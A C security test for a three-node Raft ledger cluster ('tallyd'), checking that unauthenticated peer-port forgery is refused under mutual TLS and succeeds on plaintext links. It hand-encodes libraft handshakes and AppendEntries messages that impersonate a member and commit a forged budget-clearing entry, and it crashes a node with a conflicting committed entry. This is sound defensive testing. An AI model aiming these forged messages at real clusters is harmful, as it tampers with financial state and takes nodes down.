/*
 * peer_forge_test.c: a stranger on the Raft peer ports, against a real three-node tallyd
 * cluster.
 *
 *   peer_forge_test <path to tallyd> [--expect-success]
 *
 * The attack, as an auditor ran it: an account with a small budget is made and a reserve
 * against it is DENIED; each node's term and commit index are read from its open
 * /metrics; then, with no credentials, the test connects to every peer port and sends
 *   (a) libraft's TCP handshake claiming another member's id, and one AppendEntries with
 *       term + 1 that carries a forged ledger batch: "clear the account's budget", actor
 *       "ops", committed at once by its leader commit index;
 *   (b) an AppendEntries that conflicts with the log at a committed index (index 1, the
 *       bootstrap configuration, with another term), which makes libraft give up;
 *   (c) the 32-byte handshake whose address has no NUL (libraft patch 0007).
 * libraft's handshake and message format (uv_tcp_connect.c, uv_encoding.c) are written
 * here by hand, from its sources; nothing of libraft is linked.
 *
 * Default mode: the attack must be refused. Every node is still running, every node's
 * state hash is what it was before, and the reserve is still DENIED. Peer links that
 * speak mutual TLS close these plaintext bytes unread.
 * --expect-success: the attack must go through, as it does on plaintext peer links: every
 * node applies the forged batch (its state hash changes), the reserve is GRANTED, and
 * the node sent (b) stops (exit 74). It shows the forgery is real, not a test artefact.
 */
#define _GNU_SOURCE
#include "cluster.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FORGE_ACCOUNT "forge-org"
#define FORGE_BUDGET_MICROS 1000
#define FORGE_ESTIMATE_MICROS 5000
#define PEER_BYTES_MAX 4096

/* libraft 0.22.1's wire constants (include/raft.h, src/uv_tcp.h). */
#define LIBRAFT_HANDSHAKE_PROTOCOL 1
#define LIBRAFT_APPEND_ENTRIES 1
#define LIBRAFT_COMMAND 1

static uint64_t next_rid = 1;

/* ---- libraft's peer format, written by hand. ---- */

/* Bytes for one peer connection; every put is bounded by PEER_BYTES_MAX. */
struct peer_bytes {
    uint8_t data[PEER_BYTES_MAX];
    size_t len;
};

static void put_bytes(struct peer_bytes *b, const void *p, size_t n)
{
    if (n > sizeof(b->data) - b->len) {
        H_FAIL("peer message of more than %d bytes", PEER_BYTES_MAX);
    }
    memcpy(b->data + b->len, p, n);
    b->len += n;
}

/* libraft writes every integer little endian. */
static void put_le(struct peer_bytes *b, uint64_t v, size_t n)
{
    uint8_t le[8];
    for (size_t i = 0; i < n; i++) {
        le[i] = (uint8_t)(v >> (8 * i));
    }
    put_bytes(b, le, n);
}

/* The handshake raft_uv_tcp's connect side sends: protocol, the server id it claims, the
 * address length (NUL included, padded to 8) and the address. */
static void put_handshake(struct peer_bytes *b, uint64_t id, const char *address)
{
    size_t len = strlen(address) + 1;
    size_t padded = (len + 7) / 8 * 8;
    static const uint8_t zeros[8];
    put_le(b, LIBRAFT_HANDSHAKE_PROTOCOL, 8);
    put_le(b, id, 8);
    put_le(b, padded, 8);
    put_bytes(b, address, len);
    put_bytes(b, zeros, padded - len);
}

/* One AppendEntries with one RAFT_COMMAND entry of `entry_len` bytes (a multiple of 8, so
 * that no padding follows it): the preamble (type, version 0, header length), the header
 * (term, previous index and term, leader commit, the batch header, an unused word), then
 * the entry's bytes. */
static void put_append_entries(struct peer_bytes *b, uint64_t term, uint64_t prev_index,
                               uint64_t prev_term, uint64_t leader_commit, uint64_t entry_term,
                               const void *entry, size_t entry_len)
{
    if (entry_len % 8 != 0) {
        H_FAIL("entry of %zu bytes is not padded", entry_len);
    }
    uint64_t header_len = 4 * 8 + (8 + 16) + 8;
    put_le(b, LIBRAFT_APPEND_ENTRIES, 8);
    put_le(b, header_len, 8);
    put_le(b, term, 8);
    put_le(b, prev_index, 8);
    put_le(b, prev_term, 8);
    put_le(b, leader_commit, 8);
    put_le(b, 1, 8);               /* entries in the batch */
    put_le(b, entry_term, 8);      /* the entry's term */
    put_le(b, LIBRAFT_COMMAND, 4); /* its type, and three unused bytes */
    put_le(b, entry_len, 4);       /* its length */
    put_le(b, 0, 8);               /* unused */
    put_bytes(b, entry, entry_len);
}

/* Connect to node i's peer port as a stranger, send `b` and hold the connection for
 * hold_ms (the node reads at its pace). Returns whether the node closed the connection
 * within that time; a refused connect or send counts as closed. */
static bool peer_send(int i, const struct peer_bytes *b, int hold_ms)
{
    int fd = h_connect(cl_nodes[i].peer_port, 2000);
    if (fd < 0) {
        return true;
    }
    bool closed = h_send_all(fd, b->data, b->len, 2000) != 0;
    int64_t deadline = h_now_ms() + hold_ms;
    uint8_t junk[512];
    while (!closed && h_now_ms() < deadline) {
        ssize_t n = h_recv_some(fd, junk, sizeof(junk), (int)(deadline - h_now_ms()));
        closed = n == 0 || (n < 0 && h_now_ms() < deadline);
    }
    close(fd);
    return closed;
}

/* ---- The cluster as a client sees it. ---- */

static void fill_rid(uint8_t id[LEDGER_REQUEST_ID_SIZE])
{
    memset(id, 0, LEDGER_REQUEST_ID_SIZE);
    uint64_t v = next_rid++;
    memcpy(id, &v, sizeof(v));
    id[15] = 0x5f; /* distinct from ids other tests use */
}

/* One write on a fresh connection to the leader with `token`; returns the ledger status
 * of its answer, or fails the test if there is no answer. */
static int write_on_leader(const char *token, struct ledger_cmd *cmd)
{
    int leader = cl_leader(15000);
    struct rc c;
    if (leader < 0 || rc_open(&c, leader) != 0 || rc_hello(&c, token) != RPC_OK) {
        H_FAIL("no connection to a leader");
    }
    struct rpc_request req = {.op = RPC_OP_WRITE};
    struct rpc_response resp;
    req.u.write = *cmd;
    if (rc_call(&c, &req, &resp) != 0 || resp.status != RPC_OK) {
        H_FAIL("write of command %d not answered", cmd->type);
    }
    rc_close(&c);
    return resp.u.write.result.status;
}

/* A reserve of FORGE_ESTIMATE_MICROS against the account, by a gateway; its status. */
static int reserve_status(void)
{
    struct ledger_cmd cmd = {.type = LEDGER_CMD_RESERVE};
    fill_rid(cmd.request_id);
    cmd.u.reserve.by_account = 1;
    snprintf(cmd.u.reserve.account, sizeof(cmd.u.reserve.account), "%s", FORGE_ACCOUNT);
    cmd.u.reserve.estimate_micros = FORGE_ESTIMATE_MICROS;
    cmd.u.reserve.ttl_ms = 60000;
    return write_on_leader(CL_GATEWAY_TOKEN, &cmd);
}

/* Node i's state hash in hex: 0, or -1 if it does not answer. */
static int node_hash(int i, char hex[65])
{
    uint64_t applied;
    return cl_hash(i, &applied, hex);
}

/* Whether node i's process is still running (reaps it if it ended; *status then). */
static bool node_running(int i, int *status)
{
    if (cl_nodes[i].p.pid == 0) {
        return false;
    }
    if (waitpid(cl_nodes[i].p.pid, status, WNOHANG) == cl_nodes[i].p.pid) {
        cl_nodes[i].p.pid = 0;
        return false;
    }
    return true;
}

/* What the open /metrics tells anybody: node i's term and commit index. */
static void raft_figures(int i, uint64_t *term, uint64_t *commit_index)
{
    if (cl_metric(i, "tally_raft_term", term) != 0 ||
        cl_metric(i, "tally_raft_commit_index", commit_index) != 0) {
        H_FAIL("node %d: no term or commit index on /metrics", i + 1);
    }
}

/* ---- The attack. ---- */

/* (a) On every peer port: a handshake claiming the next member's id, and an AppendEntries
 * one term past everybody's that appends "clear the budget" after the node's last
 * committed entry and commits it. The cluster is idle, so every node's last entry is its
 * commit index and has the current term (the account and the reserve were written in it). */
static void forge_budget_clear(void)
{
    struct ledger_cmd cmd = {.type = LEDGER_CMD_ACCOUNT_UPDATE};
    fill_rid(cmd.request_id);
    snprintf(cmd.actor, sizeof(cmd.actor), "ops");
    snprintf(cmd.u.update.name, sizeof(cmd.u.update.name), "%s", FORGE_ACCOUNT);
    cmd.u.update.clear = LEDGER_LIM_BUDGET;
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    void *batch;
    size_t batch_len;
    if (ledger_batch_encode((int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000, &cmd, 1, &batch,
                            &batch_len) != 0) {
        H_FAIL("encode the forged batch");
    }

    /* A follower learns the commit index with the leader's next heartbeat: wait until
     * every node reports the same one, so that it is also every node's last index. */
    uint64_t term[CL_NODES], commit[CL_NODES], term_max = 0;
    int64_t deadline = h_now_ms() + 5000;
    bool same = false;
    while (!same) {
        same = true;
        for (int i = 0; i < CL_NODES; i++) {
            raft_figures(i, &term[i], &commit[i]);
            same = same && commit[i] == commit[0] && term[i] == term[0];
        }
        if (!same && h_now_ms() > deadline) {
            H_FAIL("the nodes' commit indexes do not settle");
        }
        h_sleep_ms(same ? 0 : 50);
    }
    for (int i = 0; i < CL_NODES; i++) {
        term_max = term[i] > term_max ? term[i] : term_max;
        h_say("node %d: term %llu, commit index %llu (from /metrics)", i + 1,
              (unsigned long long)term[i], (unsigned long long)commit[i]);
    }
    for (int i = 0; i < CL_NODES; i++) {
        int claimed = (i + 1) % CL_NODES;
        char address[32];
        snprintf(address, sizeof(address), "127.0.0.1:%d", cl_nodes[claimed].peer_port);
        struct peer_bytes b = {.len = 0};
        put_handshake(&b, (uint64_t)claimed + 1, address);
        put_append_entries(&b, term_max + 1, commit[i], term[i], commit[i] + 1, term_max + 1, batch,
                           batch_len);
        /* No wait between the nodes: each must get its message before the term it
         * carries is stale (the first one deposes the leader). */
        bool refused = peer_send(i, &b, 0);
        h_say("(a) node %d, claiming id %d: forged AppendEntries %s", i + 1, claimed + 1,
              refused ? "refused" : "sent");
    }
    free(batch);
}

/* (b) On node i's peer port: an AppendEntries whose one entry lands at index 1 (after
 * index 0, which always matches) with a term the bootstrap configuration there does not
 * have. Index 1 is committed, so a node that takes the message cannot go on. */
static void forge_committed_conflict(int i)
{
    uint64_t term, commit;
    raft_figures(i, &term, &commit);
    int claimed = (i + 1) % CL_NODES;
    char address[32];
    snprintf(address, sizeof(address), "127.0.0.1:%d", cl_nodes[claimed].peer_port);
    static const uint8_t entry[8];
    struct peer_bytes b = {.len = 0};
    put_handshake(&b, (uint64_t)claimed + 1, address);
    put_append_entries(&b, term + 1, 0, 0, commit, term + 1, entry, sizeof(entry));
    bool closed = peer_send(i, &b, 300);
    h_say("(b) node %d: AppendEntries conflicting at committed index 1 sent, connection %s", i + 1,
          closed ? "closed by the node" : "held open");
}

/* (c) On node i's peer port: protocol 1, id 2, an 8-byte address with no NUL. */
static void forge_unterminated_handshake(int i)
{
    struct peer_bytes b = {.len = 0};
    put_le(&b, LIBRAFT_HANDSHAKE_PROTOCOL, 8);
    put_le(&b, 2, 8);
    put_le(&b, 8, 8);
    put_bytes(&b, "AAAAAAAA", 8);
    bool closed = peer_send(i, &b, 1000);
    h_say("(c) node %d: unterminated handshake sent, connection %s", i + 1,
          closed ? "closed by the node" : "held open");
}

/* ---- The two outcomes. ---- */

static void expect_refused(char before[CL_NODES][65])
{
    forge_budget_clear();
    for (int i = 0; i < CL_NODES; i++) {
        forge_committed_conflict(i);
        forge_unterminated_handshake(i);
    }
    h_sleep_ms(2000); /* an applied forgery or a node giving up would show by now */
    for (int i = 0; i < CL_NODES; i++) {
        int status = 0;
        char hex[65];
        if (!node_running(i, &status)) {
            H_FAIL("node %d stopped (status 0x%x)", i + 1, status);
        }
        if (node_hash(i, hex) != 0) {
            H_FAIL("node %d does not answer HASH", i + 1);
        }
        if (strcmp(hex, before[i]) != 0) {
            H_FAIL("node %d: state hash changed from %.16s... to %.16s...", i + 1, before[i], hex);
        }
        h_say("node %d running, state hash unchanged (%.16s...)", i + 1, hex);
    }
    int status = reserve_status();
    if (status != LEDGER_DENIED) {
        H_FAIL("after the attack the reserve is answered %d, not DENIED", status);
    }
    h_say("the reserve is still DENIED: the attack was refused");
}

static void expect_went_through(char before[CL_NODES][65])
{
    forge_budget_clear();
    int64_t deadline = h_now_ms() + 10000;
    for (int i = 0; i < CL_NODES; i++) {
        char hex[65] = "";
        while (node_hash(i, hex) != 0 || strcmp(hex, before[i]) == 0) {
            if (h_now_ms() > deadline) {
                H_FAIL("node %d did not apply the forged batch", i + 1);
            }
            h_sleep_ms(100);
        }
        h_say("(a) node %d applied the forged batch: state hash %.16s... -> %.16s...", i + 1,
              before[i], hex);
    }
    int status = reserve_status();
    if (status != LEDGER_OK) {
        H_FAIL("after the forgery the reserve is answered %d, not GRANTED", status);
    }
    h_say("(a) the reserve that was DENIED is GRANTED: the forgery went through");

    int victim = 0;
    forge_committed_conflict(victim);
    deadline = h_now_ms() + 10000;
    int exit_status = 0;
    while (node_running(victim, &exit_status)) {
        if (h_now_ms() > deadline) {
            H_FAIL("(b) node %d still runs after a conflict at a committed index", victim + 1);
        }
        h_sleep_ms(100);
    }
    if (!WIFEXITED(exit_status) || WEXITSTATUS(exit_status) != 74) {
        H_FAIL("(b) node %d ended with status 0x%x, not exit 74", victim + 1, exit_status);
    }
    h_say("(b) node %d stopped with exit 74", victim + 1);
    for (int i = 1; i < CL_NODES; i++) {
        forge_unterminated_handshake(i);
    }
}

int main(int argc, char **argv)
{
    bool expect_success = argc == 3 && strcmp(argv[2], "--expect-success") == 0;
    if (argc != 2 && !expect_success) {
        fprintf(stderr, "usage: %s <tallyd> [--expect-success]\n", argv[0]);
        return 2;
    }
    h_init("tally-peer-forge", 150);
    if (!expect_success) {
        cl_tls_setup(); /* TLS on every link, peers included: what the attack must meet */
    }
    cl_start(argv[1]);

    struct ledger_cmd create = {.type = LEDGER_CMD_ACCOUNT_CREATE};
    fill_rid(create.request_id);
    snprintf(create.u.create.name, sizeof(create.u.create.name), "%s", FORGE_ACCOUNT);
    create.u.create.limits.set = LEDGER_LIM_BUDGET;
    create.u.create.limits.budget_micros = FORGE_BUDGET_MICROS;
    if (write_on_leader(CL_ADMIN_TOKEN, &create) != LEDGER_OK) {
        H_FAIL("create the account");
    }
    if (reserve_status() != LEDGER_DENIED) {
        H_FAIL("a reserve past the budget is not DENIED before the attack");
    }
    h_say("account %s, budget %d micros: a reserve of %d is DENIED", FORGE_ACCOUNT,
          FORGE_BUDGET_MICROS, FORGE_ESTIMATE_MICROS);

    char before[CL_NODES][65];
    cl_converged(10000, 0, before[0]);
    for (int i = 0; i < CL_NODES; i++) {
        if (node_hash(i, before[i]) != 0) {
            H_FAIL("node %d does not answer HASH", i + 1);
        }
    }
    if (expect_success) {
        expect_went_through(before);
    } else {
        expect_refused(before);
    }
    h_pass();
    return 0;
}
